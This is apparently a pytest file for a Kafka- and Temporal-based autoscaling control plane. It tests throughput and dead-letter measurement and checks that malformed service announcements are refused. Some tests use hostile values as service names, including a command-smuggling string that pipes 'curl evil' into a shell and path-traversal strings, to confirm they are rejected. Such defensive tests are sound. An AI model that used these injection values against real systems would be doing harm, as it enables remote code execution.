"""The control plane's measure and dispatch activities, with a real observer feed on the session's
broker and the real Temporal dev server: what apps say on the observer topic becomes one
``Measurement``, and a hostile announcement never stops the other services being evaluated."""

from __future__ import annotations

import asyncio
import json
import time
import uuid

import pytest
from aiokafka import AIOKafkaProducer
from temporalio.api.enums.v1 import EventType
from temporalio.service import RPCError

from activities.control import ControlActivities, spec_from
from activities.measure.lag import ConsumerLagReader
from activities.measure.observer import ObserverFeed
from activities.act.partitions import PartitionAdmin
from controller_harness import connect_temporal
from fogverse.broker import ensure_topics
from fogverse.contracts import DeployConfig, Heartbeat, ServicePair, ThroughputReport
from fogverse.settings import ConfigError
from workers.settings import ControllerSettings
from workflows.messages import MeasureRequest, ServiceSpec, TickRequest, scaler_workflow_id


async def send(producer: AIOKafkaProducer, topic: str, message) -> None:
    raw = message if isinstance(message, bytes) else message.model_dump_json().encode()
    await producer.send_and_wait(topic, raw)


async def test_measure_counts_dead_letters_under_the_apps_dlq_suffix_and_reads_busy_time(kafka_bootstrap):
    tag = uuid.uuid4().hex[:8]
    observer, source, target = f"observer-{tag}", f"in-{tag}", f"out-{tag}"
    await ensure_topics(kafka_bootstrap, {observer: 1, source: 2, target: 1})
    settings = ControllerSettings.from_env({"KAFKA_BOOTSTRAP_SERVERS": kafka_bootstrap, "DLQ_SUFFIX": "-dead"})
    producer = AIOKafkaProducer(bootstrap_servers=kafka_bootstrap)
    await producer.start()
    try:
        async with ObserverFeed(kafka_bootstrap, observer, keep_s=60) as feed, \
                ConsumerLagReader(kafka_bootstrap) as lag:
            control = ControlActivities(settings, None, feed, lag, None, PartitionAdmin(kafka_bootstrap))
            assert await feed.wait_caught_up(20)
            for message in [
                ThroughputReport(target_topic=source, total_messages=20, interval_s=1.0, service="feeder",
                                 instance_id="feeder-1"),
                ThroughputReport(target_topic=target, total_messages=6, interval_s=1.0, service="svc",
                                 instance_id="svc-0"),
                ThroughputReport(target_topic=source + "-dead", total_messages=4, interval_s=1.0, service="svc",
                                 instance_id="svc-0"),
                ThroughputReport(target_topic=source + ".dlq", total_messages=100, interval_s=1.0, service="svc",
                                 instance_id="svc-0"),  # not this deployment's suffix: not its dead letters
                Heartbeat(service="svc", instance_id="svc-0", interval_s=1.0, busy_s=0.5, handled=10),
            ]:
                await send(producer, observer, message)
            spec = ServiceSpec("svc", source, target, f"group-{tag}")
            request = MeasureRequest(spec, window_s=10, history_s=60, heartbeat_timeout_s=30)
            for _ in range(50):
                measured = await control.measure_service(request)
                # a brand-new group's coordinator may not answer the first lag read yet
                if measured.processing_rate is not None and measured.output_rate and measured.partitions:
                    break
                await asyncio.sleep(0.1)
            assert measured.input_rate == 20.0
            assert measured.output_rate == 10.0, "6 produced + 4 dead-lettered under DLQ_SUFFIX=-dead"
            assert measured.processing_rate == 20.0, "10 handled in 0.5 s of busy time"
            assert measured.partitions == 2 and measured.partitions_growable is True
            assert measured.live_instances == ["svc-0"] and measured.consuming == 1
            assert abs(measured.measured_at - time.time()) < 5
    finally:
        await producer.stop()


async def test_a_hostile_announcement_is_refused_and_the_other_services_are_still_evaluated(kafka_bootstrap,
                                                                                              temporal_address):
    tag = uuid.uuid4().hex[:8]
    observer = f"observer-{tag}"
    await ensure_topics(kafka_bootstrap, {observer: 1})
    good, stranger = f"good{tag}", f"stranger{tag}"
    settings = ControllerSettings.from_env({"KAFKA_BOOTSTRAP_SERVERS": kafka_bootstrap,
                                            "TEMPORAL_TASK_QUEUE": f"iso-{tag}", "CONTROLLED_SERVICES": good})
    client = await connect_temporal(temporal_address)
    producer = AIOKafkaProducer(bootstrap_servers=kafka_bootstrap)
    await producer.start()
    try:
        for service in ("x" * 1100, "../../../../tmp/evil", "x;curl evil|sh;#"):
            await send(producer, observer, (
                '{"kind": "service_pair", "source_topic": "analyze", "target_topic": "client", '
                '"consumer_group": "g", "deploy_configs": {"max_instance": 9}, '
                f'"service": "{service}", "instance_id": "x-1"}}').encode())
        for service in (good, stranger):  # a well-formed announcement of a service nobody configured
            await send(producer, observer, ServicePair(
                source_topic=f"in-{tag}", target_topic=f"out-{tag}", consumer_group=f"g-{tag}",
                deploy_configs=DeployConfig(max_instance=2), service=service, instance_id=f"{service}-0"))
        async with ObserverFeed(kafka_bootstrap, observer, keep_s=60) as feed, \
                ConsumerLagReader(kafka_bootstrap) as lag:
            control = ControlActivities(settings, client, feed, lag, None, None)
            assert await feed.wait_caught_up(20)
            for _ in range(50):
                if len(feed.ledger.pairs()) == 2:
                    break
                await asyncio.sleep(0.1)
            result = await control.dispatch_tick(TickRequest("evaluate"))
            assert result.services == [good]
            assert feed.refused == 3, "each hostile announcement refused at decode, counted"
            handle = client.get_workflow_handle(scaler_workflow_id(good))
            assert (await handle.describe()).workflow_type == "ServiceScaler"
            signals = [event.workflow_execution_signaled_event_attributes async for event in handle.fetch_history_events()
                       if event.event_type == EventType.EVENT_TYPE_WORKFLOW_EXECUTION_SIGNALED]
            evaluate = json.loads(signals[0].input.payloads[0].data)
            assert evaluate["measurement"]["measured_at"] > 0, "the tick measured the service it signalled"
            await handle.terminate("test over")
            with pytest.raises(RPCError):  # nothing was started for the stranger
                await client.get_workflow_handle(scaler_workflow_id(stranger)).describe()
    finally:
        await producer.stop()


def test_the_provider_and_limits_are_the_controllers_never_the_announcements():
    pair = ServicePair(source_topic="analyze", target_topic="client", consumer_group="analyzer",
                       deploy_configs=DeployConfig(max_instance=50, cloud_provider="AWS"), service="analyzer",
                       instance_id="analyzer-0")
    settings = ControllerSettings.from_env({"CLOUD_PROVIDER": "LOCAL", "MAX_INSTANCE": "3"})
    spec = spec_from(pair, settings)
    assert (spec.cloud_provider, spec.max_instances) == ("LOCAL", 3)
    assert (spec.source_topic, spec.consumer_group) == ("analyze", "analyzer")


@pytest.mark.parametrize("value", ["../etc", "a;b", "Analyzer", "x" * 41])
def test_a_bad_controlled_service_fails_at_start_naming_the_variable(value):
    with pytest.raises(ConfigError, match="CONTROLLED_SERVICES"):
        ControllerSettings.from_env({"CONTROLLED_SERVICES": value})
